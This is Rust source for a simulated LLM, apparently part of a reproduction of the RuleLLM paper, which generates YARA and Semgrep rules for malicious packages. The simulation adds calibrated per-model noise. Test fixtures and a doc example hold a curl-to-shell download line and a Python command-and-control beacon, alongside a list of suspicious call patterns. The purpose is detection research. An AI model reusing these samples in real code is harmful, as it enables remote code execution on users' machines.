//! against the Table II behavior catalog, emits YARA/Semgrep rules from
//! what it finds, and then injects **calibrated imperfections** so that
//! the pipeline has the same job as in the paper:
//!
//! * *feature misses* — real indicators dropped (recall pressure; worse
//!   when the prompt was truncated at the context limit, which is what
//!   makes basic-unit splitting matter in the ablation);
//! * *over-general strings* — `import os`-grade patterns (precision
//!   pressure; the refiner's job);
//! * *hallucinations* — fabricated strings that match nothing;
//! * *syntax corruption* — unterminated strings, undefined `$refs`,
//!   missing sections, bad regexes, bad YAML (the aligner's job);
//! * a bounded *repair skill* used when a fix prompt carries a compiler
//!   error.
//!
//! Four [`ModelProfile`]s calibrate those rates so Table IX's ordering
//! (GPT-4o best; Claude recall-heavy, precision-poor; GPT-3.5 recall-poor;
//! Llama precision-poor) reproduces.
//!
//! # Examples
//!
//! ```
//! use llm_sim::{LlmSim, ModelProfile, Prompt, RuleFormat};
//!
//! let mut llm = LlmSim::new(ModelProfile::gpt4o(), 42);
//! let prompt = Prompt::craft(
//!     RuleFormat::Yara,
//!     &["import os\nos.system('curl http://1.2.3.4/x | sh')\n".to_owned()],
//!     None,
//! );
//! let reply = llm.complete(&prompt);
//! assert!(reply.contains("rule "));
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

mod analyzer;
mod fixer;
mod generate;
mod profile;
mod prompt;
pub mod rag;

pub use analyzer::{analyze_code, analyze_metadata, Analysis, Indicator, IndicatorKind};
pub use profile::ModelProfile;
pub use prompt::{Prompt, PromptKind, RuleFormat};
pub use rag::KnowledgeBase;

use rand::rngs::StdRng;
use rand::SeedableRng;

/// The simulated LLM: a model profile plus a seeded noise source.
#[derive(Debug)]
pub struct LlmSim {
    profile: ModelProfile,
    rng: StdRng,
    kb: Option<rag::KnowledgeBase>,
    /// Total characters of prompt consumed (rough token accounting).
    pub prompt_chars: u64,
    /// Number of completions served.
    pub completions: u64,
}

impl LlmSim {
    /// Creates a simulator with the given profile and seed.
    pub fn new(profile: ModelProfile, seed: u64) -> Self {
        let rng = StdRng::seed_from_u64(seed ^ digest::fnv1a(profile.name.as_bytes()));
        LlmSim {
            profile,
            rng,
            kb: None,
            prompt_chars: 0,
            completions: 0,
        }
    }

    /// Enables retrieval-augmented generation over `kb` (§VI extension):
    /// every crafting analysis is grounded against the knowledge base.
    pub fn with_knowledge_base(mut self, kb: rag::KnowledgeBase) -> Self {
        self.kb = Some(kb);
        self
    }

    /// The active model profile.
    pub fn profile(&self) -> &ModelProfile {
        &self.profile
    }

    /// Serves one completion. The reply layout mirrors what RuleLLM's
    /// paper pipeline parses out of real LLM output: an `=== ANALYSIS ===`
    /// section (the `*.txt` analysis artifact of §IV-A) followed by an
    /// `=== RULE ===` section containing the YARA or Semgrep rule text.
    pub fn complete(&mut self, prompt: &Prompt) -> String {
        self.completions += 1;
        // Context-window truncation: everything past the limit is
        // invisible to the model. chars/4 approximates tokens.
        let budget_chars = self.profile.context_tokens * 4;
        let mut seen_inputs: Vec<String> = Vec::with_capacity(prompt.inputs.len());
        let mut used = 0usize;
        for input in &prompt.inputs {
            if used >= budget_chars {
                break;
            }
            let take = (budget_chars - used).min(input.len());
            // Truncate on a char boundary.
            let mut end = take;
            while end > 0 && !input.is_char_boundary(end) {
                end -= 1;
            }
            seen_inputs.push(input[..end].to_owned());
            used += end + 1;
        }
        let seen = seen_inputs.join("\n");
        self.prompt_chars += (prompt.system.len() + seen.len()) as u64;

        match &prompt.kind {
            PromptKind::Craft { format } => generate::craft(
                &self.profile,
                &mut self.rng,
                *format,
                &seen_inputs,
                prompt.metadata_json.as_deref(),
                self.kb.as_ref(),
            ),
            PromptKind::Refine { format } => {
                generate::refine(&self.profile, &mut self.rng, *format, &seen)
            }
            PromptKind::Fix { format } => fixer::fix(
                &self.profile,
                &mut self.rng,
                *format,
                &seen,
                prompt.error.as_deref().unwrap_or(""),
            ),
        }
    }
}

/// Splits an LLM reply into (analysis, rule) sections. Returns the whole
/// reply as the rule when the delimiters are absent (LLMs don't always
/// follow format instructions).
pub fn split_reply(reply: &str) -> (String, String) {
    let analysis_tag = "=== ANALYSIS ===";
    let rule_tag = "=== RULE ===";
    if let Some(rule_at) = reply.find(rule_tag) {
        let rule = reply[rule_at + rule_tag.len()..].trim().to_owned();
        let analysis = reply[..rule_at].replace(analysis_tag, "").trim().to_owned();
        (analysis, rule)
    } else {
        (String::new(), reply.trim().to_owned())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const MALICIOUS: &str = "import os\nimport requests\n\ndef beacon():\n    cmd = requests.get('https://zorbex.xyz/tasks').text\n    os.system(cmd)\n";

    #[test]
    fn craft_reply_has_sections() {
        let mut llm = LlmSim::new(ModelProfile::gpt4o(), 1);
        let reply = llm.complete(&Prompt::craft(
            RuleFormat::Yara,
            &[MALICIOUS.to_owned()],
            None,
        ));
        let (analysis, rule) = split_reply(&reply);
        assert!(!analysis.is_empty());
        assert!(rule.starts_with("rule "), "{rule}");
    }

    #[test]
    fn deterministic_with_same_seed() {
        let p = Prompt::craft(RuleFormat::Yara, &[MALICIOUS.to_owned()], None);
        let mut a = LlmSim::new(ModelProfile::gpt4o(), 7);
        let mut b = LlmSim::new(ModelProfile::gpt4o(), 7);
        assert_eq!(a.complete(&p), b.complete(&p));
    }

    #[test]
    fn different_models_differ() {
        let p = Prompt::craft(RuleFormat::Yara, &[MALICIOUS.to_owned()], None);
        let mut strong = LlmSim::new(ModelProfile::gpt4o(), 7);
        let mut weak = LlmSim::new(ModelProfile::gpt35(), 7);
        // Not necessarily different on one sample, but the accounting works.
        let _ = strong.complete(&p);
        let _ = weak.complete(&p);
        assert_eq!(strong.completions, 1);
        assert_eq!(weak.completions, 1);
    }

    #[test]
    fn context_truncation_limits_visibility() {
        let mut profile = ModelProfile::gpt4o();
        profile.context_tokens = 8; // 32 chars
        let mut llm = LlmSim::new(profile, 1);
        let long_input = format!("{}{}", "x = 1\n".repeat(10), "os.system('evil')\n");
        let reply = llm.complete(&Prompt::craft(RuleFormat::Yara, &[long_input], None));
        // The malicious call sits past the context limit, so the model
        // cannot key a rule on it.
        assert!(!reply.contains("os.system"), "{reply}");
    }

    #[test]
    fn split_reply_without_delimiters() {
        let (a, r) = split_reply("rule x { condition: true }");
        assert!(a.is_empty());
        assert!(r.starts_with("rule x"));
    }

    #[test]
    fn prompt_accounting() {
        let mut llm = LlmSim::new(ModelProfile::gpt4o(), 1);
        let before = llm.prompt_chars;
        llm.complete(&Prompt::craft(
            RuleFormat::Yara,
            &[MALICIOUS.to_owned()],
            None,
        ));
        assert!(llm.prompt_chars > before);
    }
}

//! Model profiles calibrated to reproduce Table IX's ordering.

/// Behavioral parameters of one simulated model.
///
/// Rates are per-indicator (miss/overgeneral/hallucination) or per-rule
/// (syntax error); `fix_skill` is the per-round probability that a fix
/// prompt actually repairs the compile error (§IV-C allows 5 rounds).
#[derive(Debug, Clone, PartialEq)]
pub struct ModelProfile {
    /// Display name (matches the paper's Table IX rows).
    pub name: &'static str,
    /// Context window in tokens; prompt payload beyond it is invisible.
    pub context_tokens: usize,
    /// Probability of dropping a real indicator (recall loss).
    pub feature_miss_rate: f64,
    /// Probability of adding an over-general string (precision loss).
    pub overgeneral_rate: f64,
    /// Probability of fabricating a nonexistent indicator.
    pub hallucination_rate: f64,
    /// Probability a produced rule carries a syntax/semantic error.
    pub syntax_error_rate: f64,
    /// Per-round probability a fix prompt repairs the rule.
    pub fix_skill: f64,
    /// Probability the refiner successfully tightens/merges a rule.
    pub merge_skill: f64,
}

impl ModelProfile {
    /// GPT-4o — the paper's best performer (Table IX row 2).
    pub fn gpt4o() -> Self {
        ModelProfile {
            name: "GPT-4o",
            context_tokens: 32_000,
            feature_miss_rate: 0.06,
            overgeneral_rate: 0.08,
            hallucination_rate: 0.05,
            syntax_error_rate: 0.22,
            fix_skill: 0.85,
            merge_skill: 0.90,
        }
    }

    /// GPT-3.5-turbo — low recall (misses features), moderate precision.
    pub fn gpt35() -> Self {
        ModelProfile {
            name: "GPT-3.5 turbo",
            context_tokens: 12_000,
            feature_miss_rate: 0.30,
            overgeneral_rate: 0.12,
            hallucination_rate: 0.12,
            syntax_error_rate: 0.35,
            fix_skill: 0.60,
            merge_skill: 0.70,
        }
    }

    /// Claude-3.5-Sonnet — recall-heavy (keeps everything, including
    /// over-general strings), lower precision.
    pub fn claude35() -> Self {
        ModelProfile {
            name: "Claude-3.5-Sonnet",
            context_tokens: 32_000,
            feature_miss_rate: 0.03,
            overgeneral_rate: 0.22,
            hallucination_rate: 0.06,
            syntax_error_rate: 0.25,
            fix_skill: 0.80,
            merge_skill: 0.80,
        }
    }

    /// Llama-3.1-70B — local model: noisy strings, precision-poor.
    pub fn llama31() -> Self {
        ModelProfile {
            name: "Llama-3.1:70B",
            context_tokens: 16_000,
            feature_miss_rate: 0.18,
            overgeneral_rate: 0.30,
            hallucination_rate: 0.15,
            syntax_error_rate: 0.40,
            fix_skill: 0.65,
            merge_skill: 0.65,
        }
    }

    /// All four profiles in Table IX order.
    pub fn all() -> Vec<ModelProfile> {
        vec![
            ModelProfile::gpt35(),
            ModelProfile::gpt4o(),
            ModelProfile::claude35(),
            ModelProfile::llama31(),
        ]
    }

    /// Looks a profile up by (case-insensitive) name fragment.
    pub fn by_name(name: &str) -> Option<ModelProfile> {
        let lower = name.to_ascii_lowercase();
        ModelProfile::all()
            .into_iter()
            .find(|p| p.name.to_ascii_lowercase().contains(&lower))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn four_profiles() {
        assert_eq!(ModelProfile::all().len(), 4);
    }

    #[test]
    fn gpt4o_dominates_on_core_rates() {
        let strong = ModelProfile::gpt4o();
        for other in [ModelProfile::gpt35(), ModelProfile::llama31()] {
            assert!(strong.feature_miss_rate < other.feature_miss_rate);
            assert!(strong.hallucination_rate < other.hallucination_rate);
            assert!(strong.fix_skill > other.fix_skill);
        }
    }

    #[test]
    fn claude_is_recall_heavy() {
        let claude = ModelProfile::claude35();
        let gpt4o = ModelProfile::gpt4o();
        assert!(claude.feature_miss_rate < gpt4o.feature_miss_rate);
        assert!(claude.overgeneral_rate > gpt4o.overgeneral_rate);
    }

    #[test]
    fn lookup_by_name() {
        assert_eq!(
            ModelProfile::by_name("claude").map(|p| p.name),
            Some("Claude-3.5-Sonnet")
        );
        assert_eq!(
            ModelProfile::by_name("gpt-4o").map(|p| p.name),
            Some("GPT-4o")
        );
        assert!(ModelProfile::by_name("gemini").is_none());
    }

    #[test]
    fn rates_are_probabilities() {
        for p in ModelProfile::all() {
            for rate in [
                p.feature_miss_rate,
                p.overgeneral_rate,
                p.hallucination_rate,
                p.syntax_error_rate,
                p.fix_skill,
                p.merge_skill,
            ] {
                assert!((0.0..=1.0).contains(&rate), "{} out of range", p.name);
            }
        }
    }
}

//! Rule emission with the calibrated noise model (craft + refine).

use rand::rngs::StdRng;
use rand::Rng;

use crate::analyzer::{analyze_code, analyze_metadata, Analysis, Indicator, IndicatorKind};
use crate::profile::ModelProfile;
use crate::prompt::RuleFormat;

/// Over-general strings a sloppy model keys rules on. The refiner knows
/// this pool and strips them (guideline 1 of §IV-B); when they survive,
/// precision drops — which is the Table IX signature of Claude/Llama.
pub const OVERGENERAL: &[&str] = &[
    "import os",
    "import sys",
    "import requests",
    "import base64",
    "subprocess",
    "open(",
    "def main",
];

const HALLUCINATED: &[&str] = &[
    "evil_helper_3000",
    "self_destruct_sequence",
    "http://not-actually-present.invalid/payload",
    "DecryptAndLaunchMissiles",
];

/// Crafting handler (Table III): analyze, add noise, emit a coarse rule.
///
/// `inputs` holds the basic units sampled from one cluster (§IV-A
/// "Multiple Similar Units"): indicators of compromise that are specific
/// to one variant (hosts, URLs, IPs) are kept only when *shared* across
/// units, which is exactly how multi-unit prompting "avoids reliance on
/// specific implementation details".
pub fn craft(
    profile: &ModelProfile,
    rng: &mut StdRng,
    format: RuleFormat,
    inputs: &[String],
    metadata_json: Option<&str>,
    kb: Option<&crate::rag::KnowledgeBase>,
) -> String {
    let per_input: Vec<Analysis> = inputs.iter().map(|i| analyze_code(i)).collect();
    let mut analysis = Analysis::default();
    for a in &per_input {
        if analysis.summary.is_empty() || analysis.summary.contains("no malicious") {
            analysis.summary = a.summary.clone();
        }
        for ind in &a.indicators {
            if analysis.indicators.contains(ind) {
                continue;
            }
            let generalizes = ind.kind != crate::analyzer::IndicatorKind::Ioc
                || per_input.len() == 1
                || per_input
                    .iter()
                    .filter(|other| other.indicators.iter().any(|o| o.text == ind.text))
                    .count()
                    >= 2;
            if generalizes {
                analysis.indicators.push(ind.clone());
            }
        }
    }
    if let Some(json) = metadata_json {
        let meta = analyze_metadata(json);
        analysis.indicators.extend(meta.indicators);
        if (analysis.summary.is_empty() || analysis.summary.contains("no malicious"))
            && !analysis.indicators.is_empty()
        {
            analysis.summary = "suspicious package metadata".into();
        }
    }
    let code: String = inputs.join("\n");
    apply_noise(profile, rng, &mut analysis, code.len());
    // RAG grounding (§VI): retrieval both recovers missed knowledge and
    // vetoes fabricated/over-general strings — after the noise, because
    // that is what retrieval corrects.
    if let Some(kb) = kb {
        kb.ground(&mut analysis, &code);
    }
    let rule = match format {
        RuleFormat::Yara => render_yara(&analysis, &code, "any of them"),
        RuleFormat::Semgrep => render_semgrep(&analysis, &code),
    };
    let rule = maybe_corrupt(profile, rng, format, rule);
    format!(
        "=== ANALYSIS ===\n{}\n=== RULE ===\n{}",
        analysis.to_text(),
        rule
    )
}

/// Refinement handler (Table IV): self-reflect against the analysis,
/// strip over-general strings, tighten the condition, merge rules.
pub fn refine(profile: &ModelProfile, rng: &mut StdRng, format: RuleFormat, input: &str) -> String {
    let analysis = Analysis::from_text(input);
    if !rng.gen_bool(profile.merge_skill) {
        // The model failed to improve the rule; echo it back.
        let rule = extract_rule_text(input, format);
        return format!("=== RULE ===\n{rule}");
    }
    let rule = match format {
        RuleFormat::Yara => {
            let mut strings = extract_yara_strings(input);
            // Self-reflection: re-add analysis indicators the coarse rule
            // lost, drop over-general entries, dedup.
            for ind in &analysis.indicators {
                if !strings.iter().any(|(t, _)| t == &ind.text) {
                    strings.push((ind.text.clone(), ind.is_regex));
                }
            }
            strings.retain(|(t, _)| !OVERGENERAL.contains(&t.as_str()));
            strings.dedup();
            let condition = match strings.len() {
                0 | 1 => "any of them".to_owned(),
                2 => "all of them".to_owned(),
                _ => "2 of them".to_owned(),
            };
            let name_seed = input.to_owned();
            render_yara_from_strings(&analysis, &name_seed, &strings, &condition)
        }
        RuleFormat::Semgrep => {
            let mut patterns = extract_semgrep_patterns(input);
            patterns.retain(|p| !OVERGENERAL.contains(&p.as_str()) && p != "print(...)");
            patterns.dedup();
            render_semgrep_from_patterns(&analysis, input, &patterns)
        }
    };
    let rule = maybe_corrupt(profile, rng, format, rule);
    format!("=== RULE ===\n{rule}")
}

// ---- noise ----

fn apply_noise(
    profile: &ModelProfile,
    rng: &mut StdRng,
    analysis: &mut Analysis,
    payload_len: usize,
) {
    // Long-prompt dilution: LLM extraction quality degrades with payload
    // size ("LLMs struggle to process the extensive source code of many
    // malicious packages", §I). Basic units (a few KB) pay almost nothing;
    // whole packages (tens of KB) lose most indicators — which is exactly
    // why the basic-unit ablation arm matters (Table X).
    let dilution = (payload_len as f64 / 30_000.0).min(0.8);
    let miss = (profile.feature_miss_rate + dilution * (1.0 - profile.feature_miss_rate)).min(0.9);
    analysis.indicators.retain(|_| !rng.gen_bool(miss));
    if rng.gen_bool(profile.overgeneral_rate) {
        let pick = OVERGENERAL[rng.gen_range(0..OVERGENERAL.len())];
        analysis.indicators.push(Indicator {
            text: pick.to_owned(),
            kind: IndicatorKind::File,
            is_regex: false,
        });
    }
    if rng.gen_bool(profile.hallucination_rate) {
        let pick = HALLUCINATED[rng.gen_range(0..HALLUCINATED.len())];
        analysis.indicators.push(Indicator {
            text: pick.to_owned(),
            kind: IndicatorKind::Ioc,
            is_regex: false,
        });
    }
}

/// Injects one realistic syntax/semantic error with the profile's rate.
/// The corruption modes mirror Table V's six instruction categories.
pub fn maybe_corrupt(
    profile: &ModelProfile,
    rng: &mut StdRng,
    format: RuleFormat,
    rule: String,
) -> String {
    if !rng.gen_bool(profile.syntax_error_rate) {
        return rule;
    }
    match format {
        RuleFormat::Yara => match rng.gen_range(0..6) {
            // 1. Missing or incomplete parts.
            0 => match rule.find("condition:") {
                Some(at) => format!("{}}}", &rule[..at]),
                None => rule,
            },
            // 2. Syntax error: drop a closing quote.
            1 => match rule.rfind('"') {
                Some(at) => format!("{}{}", &rule[..at], &rule[at + 1..]),
                None => rule,
            },
            // 3. Undefined string in condition.
            2 => rule.replace("condition:", "condition:\n        $undefined_ref and"),
            // 4. Regular expression issue.
            3 => {
                if rule.contains("= /") {
                    rule.replacen("= /", "= /[", 1)
                } else {
                    rule.replace("condition:", "condition:\n        $bad_re or")
                }
            }
            // 5. Invalid meta field value.
            4 => rule.replace("meta:", "meta:\n        confidence = $high"),
            // 6. File encoding issue (BOM).
            _ => format!("\u{FEFF}{rule}"),
        },
        RuleFormat::Semgrep => match rng.gen_range(0..5) {
            0 => rule
                .lines()
                .filter(|l| !l.trim_start().starts_with("message:"))
                .collect::<Vec<_>>()
                .join("\n"),
            1 => rule.replacen("id:", "id", 1),
            2 => rule.replacen("pattern:", "pattern-regexp:", 1),
            3 => rule
                .lines()
                .filter(|l| !l.trim_start().starts_with("languages:"))
                .collect::<Vec<_>>()
                .join("\n"),
            _ => rule.replacen("  - id:", "      - id:", 1),
        },
    }
}

// ---- YARA rendering ----

fn yara_escape(text: &str) -> String {
    text.replace('\\', "\\\\")
        .replace('"', "\\\"")
        .replace('\n', "\\n")
        .replace('\t', "\\t")
        .replace('\r', "\\r")
}

fn regex_escape_slashes(pattern: &str) -> String {
    pattern.replace('/', "\\/")
}

fn slug(kind_summary: &str) -> String {
    let mut out = String::new();
    for c in kind_summary.chars() {
        if c.is_ascii_alphanumeric() {
            out.push(c.to_ascii_lowercase());
        } else if !out.ends_with('_') && !out.is_empty() {
            out.push('_');
        }
        if out.len() > 28 {
            break;
        }
    }
    out.trim_matches('_').to_owned()
}

fn render_yara(analysis: &Analysis, code: &str, condition: &str) -> String {
    let strings: Vec<(String, bool)> = analysis
        .indicators
        .iter()
        .map(|i| (i.text.clone(), i.is_regex))
        .collect();
    render_yara_from_strings(analysis, code, &strings, condition)
}

fn render_yara_from_strings(
    analysis: &Analysis,
    name_seed: &str,
    strings: &[(String, bool)],
    condition: &str,
) -> String {
    let name = format!(
        "mal_{}_{:08x}",
        if analysis.summary.is_empty() {
            "pkg".to_owned()
        } else {
            slug(&analysis.summary)
        },
        digest::fnv1a(name_seed.as_bytes()) as u32
    );
    let mut out = format!(
        "rule {name} {{\n    meta:\n        description = \"{}\"\n        author = \"RuleLLM\"\n",
        yara_escape(&analysis.summary)
    );
    if strings.is_empty() {
        // Nothing extracted: the model still emits *something*; a rule
        // that can never fire (and will be culled downstream).
        out.push_str("    strings:\n        $s0 = \"__no_indicators_extracted__\"\n    condition:\n        $s0\n}\n");
        return out;
    }
    out.push_str("    strings:\n");
    for (i, (text, is_regex)) in strings.iter().enumerate() {
        if *is_regex {
            out.push_str(&format!(
                "        $s{i} = /{}/\n",
                regex_escape_slashes(text)
            ));
        } else {
            out.push_str(&format!("        $s{i} = \"{}\"\n", yara_escape(text)));
        }
    }
    out.push_str(&format!("    condition:\n        {condition}\n}}\n"));
    out
}

// ---- Semgrep rendering ----

/// Callee paths worth turning into Semgrep patterns.
const PATTERN_CALLEES: &[&str] = &[
    "os.system",
    "os.popen",
    "os.setuid",
    "os.kill",
    "subprocess.Popen",
    "subprocess.call",
    "subprocess.run",
    "subprocess.check_output",
    "base64.b64decode",
    "requests.post",
    "requests.get",
    "urllib.request.urlretrieve",
    "urllib.request.urlopen",
    "socket.socket",
    "socket.gethostbyname",
    "eval",
    "exec",
    "ImageGrab.grab",
];

fn render_semgrep(analysis: &Analysis, code: &str) -> String {
    let module = pysrc::parse_module(code);
    let mut patterns: Vec<String> = Vec::new();
    for call in pysrc::collect_calls(&module) {
        let path = call.func_path();
        if PATTERN_CALLEES.contains(&path.as_str())
            && !patterns.iter().any(|p| p.starts_with(&path))
        {
            patterns.push(format!("{path}(...)"));
        }
    }
    // Noise indicators also become patterns (over-general / hallucinated).
    for ind in &analysis.indicators {
        if OVERGENERAL.contains(&ind.text.as_str()) && ind.text.starts_with("import ") {
            patterns.push(ind.text.clone());
        }
        if HALLUCINATED.contains(&ind.text.as_str()) && !ind.text.contains('/') {
            patterns.push(format!("{}(...)", ind.text));
        }
    }
    patterns.dedup();
    render_semgrep_from_patterns(analysis, code, &patterns)
}

fn render_semgrep_from_patterns(analysis: &Analysis, id_seed: &str, patterns: &[String]) -> String {
    let id = format!(
        "detect-{}-{:08x}",
        slug(&analysis.summary).replace('_', "-"),
        digest::fnv1a(id_seed.as_bytes()) as u32
    );
    let message = if analysis.summary.is_empty() {
        "suspicious package behavior".to_owned()
    } else {
        analysis.summary.clone()
    };
    let mut out = format!(
        "rules:\n  - id: {id}\n    languages: [python]\n    message: \"{}\"\n    severity: WARNING\n",
        message.replace('"', "'")
    );
    match patterns.len() {
        0 => out.push_str("    pattern: __no_pattern_extracted__(...)\n"),
        1 => out.push_str(&format!("    pattern: {}\n", patterns[0])),
        _ => {
            out.push_str("    pattern-either:\n");
            for p in patterns {
                out.push_str(&format!("      - pattern: {p}\n"));
            }
        }
    }
    out.push_str("    metadata:\n      source: rulellm\n");
    out
}

// ---- text extraction (for refine / fix over possibly-corrupt rules) ----

/// Pulls the rule body out of mixed analysis+rule prompt input.
pub fn extract_rule_text(input: &str, format: RuleFormat) -> String {
    let marker = match format {
        RuleFormat::Yara => "rule ",
        RuleFormat::Semgrep => "rules:",
    };
    match input.find(marker) {
        Some(at) => input[at..].trim().to_owned(),
        None => input.trim().to_owned(),
    }
}

/// Line-based extraction of `$id = "..."` / `$id = /.../` entries; robust
/// to corrupt rules that the real parser rejects.
pub fn extract_yara_strings(input: &str) -> Vec<(String, bool)> {
    let mut out = Vec::new();
    for line in input.lines() {
        let t = line.trim();
        if !t.starts_with('$') {
            continue;
        }
        let Some((_, rhs)) = t.split_once('=') else {
            continue;
        };
        let rhs = rhs.trim();
        if let Some(stripped) = rhs.strip_prefix('"') {
            if let Some(end) = stripped.rfind('"') {
                out.push((
                    stripped[..end]
                        .replace("\\n", "\n")
                        .replace("\\t", "\t")
                        .replace("\\\"", "\"")
                        .replace("\\\\", "\\"),
                    false,
                ));
            }
        } else if let Some(stripped) = rhs.strip_prefix('/') {
            if let Some(end) = stripped.rfind('/') {
                out.push((stripped[..end].replace("\\/", "/"), true));
            }
        }
    }
    out
}

/// Line-based extraction of `pattern:` entries from (possibly corrupt)
/// Semgrep YAML.
pub fn extract_semgrep_patterns(input: &str) -> Vec<String> {
    let mut out = Vec::new();
    for line in input.lines() {
        let t = line.trim().trim_start_matches("- ");
        for key in ["pattern:", "pattern-regexp:"] {
            if let Some(rest) = t.strip_prefix(key) {
                let p = rest.trim().trim_matches('|').trim();
                if !p.is_empty() {
                    out.push(p.to_owned());
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    fn quiet_profile() -> ModelProfile {
        ModelProfile {
            name: "test-quiet",
            context_tokens: 32_000,
            feature_miss_rate: 0.0,
            overgeneral_rate: 0.0,
            hallucination_rate: 0.0,
            syntax_error_rate: 0.0,
            fix_skill: 1.0,
            merge_skill: 1.0,
        }
    }

    const CODE: &str = "import os, requests\n\ndef beacon():\n    cmd = requests.get('https://zorbex.xyz/tasks').text\n    os.system(cmd)\n";

    #[test]
    fn craft_yara_compiles_without_noise() {
        let mut rng = StdRng::seed_from_u64(1);
        let reply = craft(
            &quiet_profile(),
            &mut rng,
            RuleFormat::Yara,
            &[CODE.to_owned()],
            None,
            None,
        );
        let (_, rule) = crate::split_reply(&reply);
        let compiled = yara_engine::compile(&rule);
        assert!(compiled.is_ok(), "{rule}\n{:?}", compiled.err());
    }

    #[test]
    fn craft_semgrep_compiles_without_noise() {
        let mut rng = StdRng::seed_from_u64(1);
        let reply = craft(
            &quiet_profile(),
            &mut rng,
            RuleFormat::Semgrep,
            &[CODE.to_owned()],
            None,
            None,
        );
        let (_, rule) = crate::split_reply(&reply);
        let compiled = semgrep_engine::compile(&rule);
        assert!(compiled.is_ok(), "{rule}\n{:?}", compiled.err());
    }

    #[test]
    fn crafted_yara_matches_the_source_family() {
        let mut rng = StdRng::seed_from_u64(1);
        let reply = craft(
            &quiet_profile(),
            &mut rng,
            RuleFormat::Yara,
            &[CODE.to_owned()],
            None,
            None,
        );
        let (_, rule) = crate::split_reply(&reply);
        let compiled = yara_engine::compile(&rule).expect("compile");
        let scanner = yara_engine::Scanner::new(&compiled);
        assert!(scanner.is_match(CODE.as_bytes()));
        // A different variant of the same behavior should also match
        // (any-of semantics over API strings).
        let variant = CODE.replace("zorbex.xyz", "bexlum.top");
        assert!(scanner.is_match(variant.as_bytes()));
    }

    #[test]
    fn corruption_produces_compile_errors() {
        let mut profile = quiet_profile();
        profile.syntax_error_rate = 1.0;
        let mut rng = StdRng::seed_from_u64(3);
        let mut failures = 0;
        for _ in 0..12 {
            let reply = craft(
                &profile,
                &mut rng,
                RuleFormat::Yara,
                &[CODE.to_owned()],
                None,
                None,
            );
            let (_, rule) = crate::split_reply(&reply);
            if yara_engine::compile(&rule).is_err() {
                failures += 1;
            }
        }
        assert!(
            failures >= 8,
            "only {failures}/12 corrupted rules failed to compile"
        );
    }

    #[test]
    fn semgrep_corruption_produces_compile_errors() {
        let mut profile = quiet_profile();
        profile.syntax_error_rate = 1.0;
        let mut rng = StdRng::seed_from_u64(4);
        let mut failures = 0;
        for _ in 0..10 {
            let reply = craft(
                &profile,
                &mut rng,
                RuleFormat::Semgrep,
                &[CODE.to_owned()],
                None,
                None,
            );
            let (_, rule) = crate::split_reply(&reply);
            if semgrep_engine::compile(&rule).is_err() {
                failures += 1;
            }
        }
        assert!(
            failures >= 7,
            "only {failures}/10 corrupted rules failed to compile"
        );
    }

    #[test]
    fn refine_strips_overgeneral_strings() {
        let mut profile = quiet_profile();
        profile.overgeneral_rate = 1.0;
        let mut rng = StdRng::seed_from_u64(5);
        let reply = craft(
            &profile,
            &mut rng,
            RuleFormat::Yara,
            &[CODE.to_owned()],
            None,
            None,
        );
        let (analysis, rule) = crate::split_reply(&reply);
        assert!(OVERGENERAL.iter().any(|o| rule.contains(o)), "{rule}");
        let refined_reply = refine(
            &quiet_profile(),
            &mut rng,
            RuleFormat::Yara,
            &format!("{analysis}\n{rule}"),
        );
        let (_, refined) = crate::split_reply(&refined_reply);
        assert!(
            !OVERGENERAL
                .iter()
                .any(|o| refined.contains(&format!("\"{o}\""))),
            "{refined}"
        );
        assert!(yara_engine::compile(&refined).is_ok(), "{refined}");
    }

    #[test]
    fn refine_tightens_condition() {
        let mut rng = StdRng::seed_from_u64(6);
        let reply = craft(
            &quiet_profile(),
            &mut rng,
            RuleFormat::Yara,
            &[CODE.to_owned()],
            None,
            None,
        );
        let (analysis, rule) = crate::split_reply(&reply);
        assert!(rule.contains("any of them"));
        let refined_reply = refine(
            &quiet_profile(),
            &mut rng,
            RuleFormat::Yara,
            &format!("{analysis}\n{rule}"),
        );
        let (_, refined) = crate::split_reply(&refined_reply);
        assert!(
            refined.contains("2 of them") || refined.contains("all of them"),
            "{refined}"
        );
    }

    #[test]
    fn refine_with_zero_merge_skill_is_noop() {
        let mut profile = quiet_profile();
        profile.merge_skill = 0.0;
        let mut rng = StdRng::seed_from_u64(7);
        let input = "summary: x\nrule keepme { strings: $a = \"q\" condition: $a }";
        let reply = refine(&profile, &mut rng, RuleFormat::Yara, input);
        assert!(reply.contains("keepme"));
    }

    #[test]
    fn extract_yara_strings_handles_regex_and_text() {
        let rule = "rule r {\n  strings:\n    $a = \"os.system\"\n    $b = /https?:\\/\\/x/\n  condition: all of them\n}";
        let strings = extract_yara_strings(rule);
        assert_eq!(strings.len(), 2);
        assert_eq!(strings[0], ("os.system".to_owned(), false));
        assert_eq!(strings[1], ("https?://x".to_owned(), true));
    }

    #[test]
    fn extract_semgrep_patterns_works() {
        let yaml = "rules:\n  - id: x\n    pattern-either:\n      - pattern: os.system(...)\n      - pattern: eval(...)\n";
        assert_eq!(
            extract_semgrep_patterns(yaml),
            vec!["os.system(...)".to_owned(), "eval(...)".to_owned()]
        );
    }

    #[test]
    fn metadata_indicators_reach_the_rule() {
        let meta = oss_registry::PackageMetadata::new("reqests", "0.0.0");
        let json = oss_registry::render_registry_json(&meta);
        let mut rng = StdRng::seed_from_u64(8);
        let reply = craft(
            &quiet_profile(),
            &mut rng,
            RuleFormat::Yara,
            &[String::new()],
            Some(&json),
            None,
        );
        let (_, rule) = crate::split_reply(&reply);
        assert!(rule.contains("0.0.0"), "{rule}");
        assert!(yara_engine::compile(&rule).is_ok(), "{rule}");
    }
}

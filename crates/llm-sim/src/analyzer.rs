//! The model's "knowledge": Table II behavior auditing over code and
//! metadata.
//!
//! This is the deterministic core of the simulated LLM — a static
//! analyzer that finds the indicators a competent malware analyst would
//! extract. The noise model in [`crate::generate`] then degrades its
//! output per model profile.

use textmatch::Regex;

/// Which Table II audit row an indicator belongs to.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash)]
pub enum IndicatorKind {
    /// Indicators of compromise: hosts, IPs, URLs.
    Ioc,
    /// File operations.
    File,
    /// Network activity / C2.
    Network,
    /// Encryption / encoding (obfuscation).
    Encryption,
    /// Privilege operations.
    Privilege,
    /// Anti-debug / anti-analysis.
    AntiDebug,
    /// Suspicious package metadata.
    Metadata,
}

impl IndicatorKind {
    /// Table II row label.
